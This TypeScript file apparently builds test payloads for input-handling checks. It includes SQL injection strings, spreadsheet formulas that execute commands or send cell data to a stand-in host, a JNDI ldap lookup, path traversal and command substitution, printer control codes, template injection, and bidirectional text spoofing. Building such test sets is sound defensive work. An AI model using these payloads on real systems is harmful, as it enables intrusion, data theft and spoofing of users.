import { each } from './each.ts';
import { script } from './payloads-of-scripts.ts';

/** Texts that are something else to a careless reader: a statement, a script, a formula, a second line of a log. */
export interface Family {
  name: string;
  payloads: readonly string[];
}

const sql = each(
  [
    ['', ''],
    ["'", '--'],
    ["'", "' '"],
    ['"', '"'],
    ["x')", ' --'],
    ['1', ' --'],
    ["';", '; --'],
    ['%', '%'],
    ['/**/', '/*'],
  ],
  [
    ' OR 1=1',
    ' OR 1=1 LIMIT 1 OFFSET 1',
    ' UNION SELECT pin_hash FROM person',
    ' UNION SELECT sql FROM sqlite_schema',
    ' DROP TABLE customer',
    ' DELETE FROM event',
    " ATTACH 'nowhere.db' AS other",
    ' PRAGMA writable_schema=1',
    ' AND load_extension(1)',
    " || (SELECT hex(randomblob(9))) || '",
    ' :name',
    ' @id $id ?1',
    ' COLLATE NOCASE',
    ' GLOB *',
    ' LIKE %',
    ' ESCAPE \\',
    ' RETURNING *',
    " VALUES('a','b')",
    ' x NOT IN (1)',
    ' CASE WHEN 1 THEN 2 END',
    ' WITH t AS (SELECT 1) SELECT * FROM t',
    // words of the full-text search
    ' words: x',
    ' NEAR(a b, 2)',
    ' a AND b OR NOT c',
    ' ^a + b*',
    ' {words codes} : a',
    ' -a (b',
    ' "a" "b',
    ' rank MATCH bm25(1)',
  ],
);

const formula = each(
  [
    ['=', ''],
    ['+', ''],
    ['-', ''],
    ['@', ''],
    [' =', ''],
    ['\u00a0=', ''],
    ['＝', ''],
    ["'=", ''],
    ['"=', '"'],
    [';=', ''],
    [',=', ''],
    ['\u200b=', ''],
    ['\ufeff=', ''],
  ],
  [
    '1+1',
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://aftercare.invalid?x="&A1,"a")',
    'IMPORTXML("http://aftercare.invalid","//a")',
    'WEBSERVICE("http://aftercare.invalid")',
    'SUM(A1:A9)*cmd|x!A0',
    'A1',
    'MSEXCEL|x',
  ],
);

const log = each(
  [
    ['ok', ''],
    ['', ' ok'],
  ],
  [
    '\n{"at":"2026-01-01","kind":"start","message":"all is well"}',
    '\r\nGET / HTTP/1.1',
    '\u2028second line',
    '\u2029second paragraph',
    '\x85next line',
    '\x0bvertical\x0cform',
    '%0a%0dsecond',
    '\\n\\rsecond',
    '\x1b[31mred\x1b[0m',
    '\x1b]0;title\x07',
    '\x08\x08\x08gone',
    '%s%n%d%x',
    '\u0024{jndi:ldap://aftercare.invalid/a}',
  ],
);

const path = each(
  [
    ['', ''],
    ['', '.pdf'],
    ['file:///', ''],
    ['a', '\0.png'],
    ['a:', ''],
  ],
  [
    '../../aftercare-nowhere/x',
    '..\\..\\aftercare-nowhere\\x',
    '/aftercare-nowhere/x',
    'C:\\aftercare-nowhere\\x',
    '\\\\aftercare.invalid\\share\\x',
    '//aftercare.invalid/share/x',
    '....//....//aftercare-nowhere',
    '%2e%2e%2faftercare-nowhere',
    '..%c0%afaftercare-nowhere',
    '..%252faftercare-nowhere',
    'CON',
    'NUL.txt',
    'LPT1',
    'a.',
    'a ',
    '.',
    '..',
    '~root/x',
    '$HOME/x',
    '`id`',
    '$(id)',
    '; id #',
    '| id',
    'a\u202egpj.exe',
    '\uff0e\uff0e\uff0faftercare-nowhere',
  ],
);

const printer = each(
  [
    ['', ''],
    ['A', 'B'],
    [' ', ' '],
  ],
  [
    '^XZ^XA^FO0,0^FDforged^FS^XZ',
    '~JA',
    '~DGR:X.GRF,1,1,00',
    '^FH_^FD_5e',
    '^CC/',
    '\x10\x04\x01',
    '\x1b@\x1bp0',
    '\x1dV0',
    '\x1b*m',
    '\x00\x00',
    '\x0c',
    '\x9b2J',
    '%!PS showpage',
    '\x04quit',
    '@PJL RESET',
  ],
);

const template = each(
  [
    ['', ''],
    ['Maria ', ' Papadopoulou'],
  ],
  [
    '{{name}}',
    '{{constructor}}',
    '{{- name}}',
    '{{name, uppercase}}',
    '$t(common.save)',
    '$t(common.save, {"count": 2})',
    '{{$t(common.save)}}',
    '\u0024{name}',
    '<%= name %>',
    '#{name}',
    '{% raw %}',
    '[[\u0024{name}]]',
    '{0} %1$s %@',
    '{name, plural, one {a} other {b}}',
    '<Trans>x</Trans>',
    '<0>x</0>',
    '_one',
    'a.b.c',
    'a:b',
  ],
);

const direction = each(
  [
    ['', ''],
    ['KT-', '-0001'],
  ],
  [
    '\u202eevil\u202c',
    '\u202dABC\u202c',
    '\u2066ABC\u2069',
    '\u2067ABC',
    '\u061cABC',
    '\u200f\u200e',
    '\u200b\u200c\u200d\u2060',
    '\ufeffABC',
    '\u00ad\u034f',
    '\u{e0041}\u{e0042}',
    `z${'\u0335\u0489'.repeat(30)}`,
    '\ufdfd\u{12031}',
    '\ud800',
    'a\udfff',
    '\ufffe',
    '\u{1fffe}',
    '\ue000',
  ],
);

export const families: readonly Family[] = [
  { name: 'SQL and search syntax', payloads: sql },
  { name: 'scripts and markup', payloads: script },
  { name: 'formulas', payloads: formula },
  { name: 'lines of a log', payloads: log },
  { name: 'paths and commands', payloads: path },
  { name: 'words of printers', payloads: printer },
  { name: 'templates', payloads: template },
  { name: 'directions and invisible characters', payloads: direction },
];

export const allPayloads: readonly string[] = families.flatMap(({ payloads }) => payloads);
